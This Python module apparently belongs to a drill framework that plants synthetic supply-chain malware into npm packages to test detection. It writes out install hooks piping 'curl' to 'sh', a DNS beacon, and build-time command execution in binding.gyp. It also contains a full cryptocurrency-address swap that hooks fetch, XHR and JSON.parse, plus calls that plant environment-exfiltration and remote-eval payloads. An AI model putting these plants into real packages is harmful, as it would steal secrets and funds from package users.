"""Plants in npm packages: lifecycle scripts, dependencies, modules, bundles, fixtures, binaries."""

# ruff: noqa: E501, ISC004 -- templates of another language keep their own lines

from __future__ import annotations

import json
import posixpath
from collections.abc import Callable

from doorward.drill.javascript import (
    Script,
    blob_runner,
    env_sender,
    js_text,
    minified,
    module_kind,
    remote_eval,
    set_off,
    string_array,
)
from doorward.drill.native.programs import shared_object
from doorward.drill.scene import NoPlace, Scene

__all__ = ["PLANTS"]

_MANIFEST = "package/package.json"


def _edit_manifest(scene: Scene, section: str, key: str, value: object) -> None:
    """Add one entry to package.json, keeping its order and indent."""
    raw = scene.new.files.get(_MANIFEST)
    if raw is None:
        raise NoPlace(f"family {scene.family}", expected=_MANIFEST, found="none")
    manifest = json.loads(raw)
    indent = 2 if b'\n  "' in raw else ("\t" if b'\n\t"' in raw else 2)
    if section:
        manifest.setdefault(section, {})[key] = value
    else:
        manifest[key] = value
    scene.new.files[_MANIFEST] = (json.dumps(manifest, indent=indent, ensure_ascii=False) + "\n").encode()


def _script_files(scene: Scene) -> list[str]:
    found = []
    for path in scene.paths(".js", ".cjs", ".mjs"):
        outside = any(
            part in path for part in ("/test/", "/tests/", ".min.", "/example", "/scripts/", "/bench")
        )
        if not outside and 150 < len(scene.new.files[path]) < 150_000:
            found.append(path)
    return found


def _script(scene: Scene, path: str) -> Script:
    source = scene.new.files.get(path, b"")
    return Script(scene.chance, module_kind(path, source, scene.new.files.get(_MANIFEST, b"")))


def _insert(scene: Scene, path: str, script: Script) -> None:
    """Append to a module, or put it in after the first complete line at depth zero."""
    source = scene.new.files[path].decode("utf-8", "surrogateescape")
    text = script.text()
    if scene.chance.maybe(0.3):
        text = minified(text)
        if script.kind == "esm":
            text = script.text()
    if (
        scene.chance.maybe(0.3)
        and script.kind == "cjs"
        and not source.startswith(("#!", "'use", '"use', "/*"))
    ):
        whole = f"{text}\n{source}"
    else:
        tail = "" if not scene.chance.maybe(0.2) else " " * scene.chance.number(200, 900)
        whole = f"{source.rstrip()}\n{tail}{text}\n"
    scene.new.files[path] = whole.encode("utf-8", "surrogateescape")


def _new_script(scene: Scene, call: Callable[[Script], str], path: str = "") -> str:
    chance = scene.chance
    path = path or posixpath.join("package", chance.pick(("", "scripts", "lib")), chance.file_name(".js"))
    if b'"type": "module"' in scene.new.files.get(_MANIFEST, b"") and chance.maybe(0.5):
        path = path.removesuffix(".js") + ".cjs"
    script = _script(scene, path)
    set_off(script, call(script))
    scene.new.add(path, script.text().encode() + b"\n")
    return path


def _postinstall(scene: Scene) -> None:
    chance = scene.chance
    hook = chance.pick(("postinstall", "preinstall", "install", "postinstall", "prepare"))
    shape = chance.number(0, 2)
    if shape == 0:
        path = _new_script(scene, chance.pick((blob_runner, env_sender, remote_eval)))
        _edit_manifest(scene, "scripts", hook, f"node {path.removeprefix('package/')}")
    elif shape == 1:
        _edit_manifest(scene, "scripts", hook, f"curl -fsSL {chance.url()} | sh")
    else:
        host = chance.host()
        _edit_manifest(scene, "scripts", hook, f"node -e \"require('dns').lookup('{host}',()=>{{}})\"")


def _dependency(scene: Scene) -> None:
    chance = scene.chance
    version = (
        chance.pick(("^", "~", "", ">="))
        + f"{chance.number(0, 4)}.{chance.number(0, 20)}.{chance.number(0, 9)}"
    )
    if chance.maybe(0.15):
        version = chance.url() + ".tgz"
    section = chance.pick(("dependencies", "dependencies", "dependencies", "optionalDependencies"))
    _edit_manifest(scene, section, chance.project(), version)


def _min_unlike(scene: Scene) -> None:
    built = [p for p in scene.paths(".js", ".cjs", ".mjs") if ".min." in p or "/dist/" in p or "/build/" in p]
    script = Script(scene.chance)
    set_off(script, scene.chance.pick((blob_runner, env_sender, remote_eval))(script))
    text = minified(script.text())
    if built:
        path = scene.chance.pick(built)
        scene.new.files[path] = scene.new.files[path].rstrip() + b"\n;" + text.encode() + b"\n"
    else:
        path = posixpath.join("package/dist", scene.chance.file_name(".min.js"))
        scene.new.add(path, text.encode() + b"\n")
        _edit_manifest(
            scene, "", scene.chance.pick(("main", "browser", "unpkg")), path.removeprefix("package/")
        )


def _hidden(scene: Scene) -> None:
    path = scene.pick_path(_script_files(scene), "a JavaScript module")
    script = _script(scene, path)
    set_off(script, blob_runner(script))
    _insert(scene, path, script)


def _env_exfil(scene: Scene) -> None:
    if scene.chance.maybe(0.7):
        path = scene.pick_path(_script_files(scene), "a JavaScript module")
        script = _script(scene, path)
        set_off(script, env_sender(script))
        _insert(scene, path, script)
    else:
        _new_script(scene, env_sender)


def _packed(scene: Scene) -> None:
    chance = scene.chance
    text = string_array(chance, chance.number(40, 300)).encode()
    if chance.maybe(0.6):
        path = scene.pick_path(_script_files(scene), "a JavaScript module")
        joint = b"\n" if chance.maybe(0.5) else b";" + b" " * chance.number(80, 600)
        scene.new.files[path] = scene.new.files[path].rstrip() + joint + text + b"\n"
    else:
        scene.new.add(
            posixpath.join("package", chance.pick(("lib", "dist", "")), chance.file_name(".js")), text
        )


def _wallet_swap(scene: Scene) -> None:
    chance = scene.chance
    path = scene.pick_path(_script_files(scene), "a JavaScript module")
    script = _script(scene, path)
    lists = [
        [
            chance.pick(("0x", "bc1q", "T", "L")) + chance.blob(18, 20).hex()
            for _ in range(chance.number(5, 40))
        ]
    ]
    script.add(f"const $list = {json.dumps(lists[0])};")
    script.add(
        chance.pick(
            (
                "const $near = (a) => $list.reduce((b, c) => [...c].filter((x, i) => x === a[i]).length > b[0] ? "
                "[[...c].filter((x, i) => x === a[i]).length, c] : b, [0, a])[1];",
                "function $near(a) {\n  let best = a, top = -1;\n  for (const c of $list) {\n    let n = 0;\n"
                "    for (let i = 0; i < c.length; i++) if (c[i] === a[i]) n++;\n    if (n > top) { top = n; best = c; }\n"
                "  }\n  return best;\n}",
            )
        )
    )
    pattern = chance.pick((r"/0x[a-fA-F0-9]{40}/g", r"/\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g"))
    script.add(
        chance.pick(
            (
                f"if (typeof window !== 'undefined') {{\n  const $old = window.fetch;\n  window.fetch = async (...a) => {{\n"
                f"    const r = await $old(...a);\n    const t = (await r.text()).replace({pattern}, $near);\n"
                "    return new Response(t, r);\n  };\n}",
                f"const $old = globalThis.XMLHttpRequest && XMLHttpRequest.prototype.send;\nif ($old) "
                f"XMLHttpRequest.prototype.send = function (b) {{\n  return $old.call(this, String(b).replace({pattern}, $near));\n}};",
                f"const $old = JSON.parse;\nJSON.parse = (t, r) => $old(String(t).replace({pattern}, $near), r);",
            )
        )
    )
    _insert(scene, path, script)


def _native_swapped(scene: Scene) -> None:
    """A prebuilt program is replaced by another shared object that looks names up."""
    programs = [path for path in scene.paths(".node") if scene.new.files[path][:4] == b"\x7fELF"]
    path = scene.pick_path(programs, "an ELF .node program")
    scene.new.files[path] = shared_object(scene, posixpath.basename(path))


def _geo_trigger(scene: Scene) -> None:
    """Asks where it is, then would write a made-up file name under the temporary folder only."""
    chance = scene.chance
    path = scene.pick_path(_script_files(scene), "a JavaScript module")
    script = _script(scene, path)
    https, fs, os = script.use("https"), script.use("fs"), script.use("os")
    host, key = js_text(chance, chance.host()), chance.pick(("country_name", "countryCode", "cc", "region"))
    places = [chance.letters(5, 8) for _ in range(2)]
    target = js_text(chance, f"/{chance.word()}-{chance.letters(6, 8)}.txt")
    script.add(
        f"function $main() {{\n  {https}.get('https://' + ({host}) + '/{chance.word()}', (r) => r.on('data', (d) => {{\n"
        f"    const $where = JSON.parse(d.toString())['{key}'].toLowerCase();\n"
        f"    if ({json.dumps(places)}.some((p) => $where.includes(p)))\n"
        f"      {fs}.writeFile({os}.tmpdir() + ({target}), Buffer.from('{chance.blob(20, 200).hex()}', 'hex'), () => {{}});\n"
        "  }));\n}"
    )
    set_off(script, "$main()", dormant=True)
    _insert(scene, path, script)


def _fixture_blob(scene: Scene) -> None:
    chance = scene.chance
    data = posixpath.join(
        "package",
        chance.pick(("test/fixtures", "test", "data")),
        chance.file_name(chance.pick((".js", ".json", ".bin", ".txt"))),
    )
    blob = chance.blob(2000, 20000)
    if data.endswith(".js"):
        scene.new.add(data, b"module.exports=['" + blob.hex().encode() + b"'];\n")
    elif data.endswith(".json"):
        scene.new.add(data, b'["' + blob.hex().encode() + b'"]\n')
    else:
        scene.new.add(data, blob)
    path = scene.pick_path(_script_files(scene), "a JavaScript module")
    script = _script(scene, path)
    inner = posixpath.relpath(data, posixpath.dirname(path))
    fs = script.use("fs")
    source = f"Buffer.from({fs}.readFileSync(new URL('{inner}', import.meta.url)))"
    if script.kind == "cjs":
        source = (
            f"Buffer.from({fs}.readFileSync({script.use('path')}.join(__dirname, {js_text(chance, inner)})))"
        )
    set_off(script, blob_runner(script, source=source))
    _insert(scene, path, script)


def _bundle_worm(scene: Scene) -> None:
    chance = scene.chance
    path = posixpath.join("package", chance.pick(("bundle.js", chance.file_name(".js"), "setup_bun.js")))
    parts = [string_array(chance, chance.number(200, 500)) for _ in range(chance.number(3, 8))]
    script = Script(chance)
    set_off(script, env_sender(script))
    scene.new.add(path, (";".join(parts) + ";" + minified(script.text())).encode())
    hook = chance.pick(("postinstall", "preinstall"))
    _edit_manifest(scene, "scripts", hook, f"node {path.removeprefix('package/')}")


def _binding_gyp(scene: Scene) -> None:
    chance = scene.chance
    path = _new_script(scene, chance.pick((env_sender, blob_runner, remote_eval)))
    command = f"<!(node {path.removeprefix('package/')} > /dev/null 2>&1 && echo stub.c)"
    target: dict[str, object] = {"target_name": chance.word(), "type": "none"}
    if chance.maybe(0.5):
        target["sources"] = [command]
    else:
        action = ["node", path.removeprefix("package/")]
        target["actions"] = [
            {"action_name": chance.word(), "inputs": [], "outputs": ["out"], "action": action}
        ]
    scene.new.add("package/binding.gyp", json.dumps({"targets": [target]}, indent=2).encode())


def _new_host(scene: Scene) -> None:
    path = scene.pick_path(_script_files(scene), "a JavaScript module")
    script = _script(scene, path)
    set_off(script, remote_eval(script))
    _insert(scene, path, script)


PLANTS: dict[str, Callable[[Scene], None]] = {
    "js-postinstall-first": _postinstall,
    "js-dependency": _dependency,
    "js-min-unlike": _min_unlike,
    "js-hidden": _hidden,
    "js-env-exfil": _env_exfil,
    "js-string-array": _packed,
    "js-wallet-swap": _wallet_swap,
    "js-native-swapped": _native_swapped,
    "js-geo-trigger": _geo_trigger,
    "js-fixture-blob": _fixture_blob,
    "js-bundle-worm": _bundle_worm,
    "js-binding-gyp": _binding_gyp,
    "js-new-host": _new_host,
}
